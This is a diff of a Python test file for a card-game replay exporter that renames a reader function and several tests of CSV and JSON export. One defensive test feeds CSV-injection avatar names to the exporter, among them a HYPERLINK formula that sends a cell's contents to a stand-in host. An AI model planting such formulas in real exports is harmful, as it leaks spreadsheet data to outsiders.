@@ -11,7 +11,7 @@ import pytest
 
 from dealer.journal.records import read_journal
 from dealer.replay.export import COLUMNS, CsvExport, json_line
-from dealer.replay.journal_reader import Choice, watch
+from dealer.replay.journal_reader import Choice, replay_items
 from dealer.settings import Settings
 from protocol.games.base import Bet
 from protocol.games.stud import StudGame
@@ -25,18 +25,18 @@ both = pytest.mark.parametrize("write", [write_stud, write_blockhead])
 def rows(path: Path, choice: Choice = Choice()) -> list[dict[str, str]]:  # noqa: B008 - frozen
     sheet = StringIO(newline="")
     export = CsvExport(sheet)
-    for item in watch(path, choice):
+    for item in replay_items(path, choice):
         export.write(item)
     sheet.seek(0)
     return list(csv.DictReader(sheet))
 
 
 def lines(path: Path, choice: Choice = Choice()) -> list[dict[str, Any]]:  # noqa: B008 - frozen
-    return [json.loads(json_line(item)) for item in watch(path, choice)]
+    return [json.loads(json_line(item)) for item in replay_items(path, choice)]
 
 
 @both
-def test_both_say_what_the_journal_says(write: Callable[[Path], Path], tmp_path: Path) -> None:
+def test_json_and_csv_equal_the_journal(write: Callable[[Path], Path], tmp_path: Path) -> None:
     path = write(tmp_path / "a.journal")
     records = [record for record in read_journal(path) if record["type"] == "hand"]
     hands = [line for line in lines(path) if line["type"] == "hand"]
@@ -54,7 +54,7 @@ def test_both_say_what_the_journal_says(write: Callable[[Path], Path], tmp_path:
     ]
 
 
-def test_a_row_says_who_did_what_to_which_pot(tmp_path: Path) -> None:
+def test_columns_of_a_csv_row(tmp_path: Path) -> None:
     first, *_ = rows(write_stud(tmp_path / "a.journal"))
     assert first == {
         **{"table": "0", "hand": "1", "game": "1", "level": "1", "street": "1", "seat": "3"},
@@ -65,7 +65,7 @@ def test_a_row_says_who_did_what_to_which_pot(tmp_path: Path) -> None:
     assert tuple(first) == COLUMNS
 
 
-def test_faults_forced_folds_and_void_hands_are_rows_too(tmp_path: Path) -> None:
+def test_csv_rows_of_faults_forced_folds_and_voids(tmp_path: Path) -> None:
     table = rows(write_stud(tmp_path / "a.journal"))
     (fault,) = (row for row in table if row["fault"])
     assert (fault["action"], fault["fault"], fault["id"]) == ("given-up", "malformed", "p2")
@@ -77,7 +77,7 @@ def test_faults_forced_folds_and_void_hands_are_rows_too(tmp_path: Path) -> None
 
 
 @both
-def test_a_choice_is_honoured(write: Callable[[Path], Path], tmp_path: Path) -> None:
+def test_export_of_selected_hands(write: Callable[[Path], Path], tmp_path: Path) -> None:
     path = write(tmp_path / "a.journal")
     choice = Choice(hand=2, table=0, seat="0")
     assert {row["hand"] for row in rows(path, choice)} == {"2"}
@@ -87,7 +87,7 @@ def test_a_choice_is_honoured(write: Callable[[Path], Path], tmp_path: Path) -> 
 
 
 @pytest.mark.parametrize("avatar", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@x", 'a,"b";\u2028c'])
-def test_a_spreadsheet_takes_no_avatar_for_a_formula(avatar: str, tmp_path: Path) -> None:
+def test_avatars_cannot_be_formulas(avatar: str, tmp_path: Path) -> None:
     scribe = Scribe(Settings(SEED, StudGame()), players(avatar, "Brian"))
     scribe.game()
     scribe.hand(lambda player, turn: Bet(turn.owed))
